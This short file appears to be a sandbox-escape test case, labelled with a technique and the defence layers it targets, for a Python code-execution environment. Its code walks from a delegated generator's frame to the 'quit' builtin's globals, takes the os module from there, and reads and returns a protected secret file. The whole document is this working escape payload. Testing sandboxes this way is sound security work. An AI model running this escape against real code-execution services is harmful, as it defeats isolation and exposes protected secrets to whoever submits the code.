# class: exceptions and frames
# technique: what a generator delegates to, and its frame
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def inner():
    yield 1
def outer():
    yield from inner()
running = outer()
next(running)
g = running.gi_yieldfrom.gi_frame.f_builtins["quit"].__init__.__globals__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
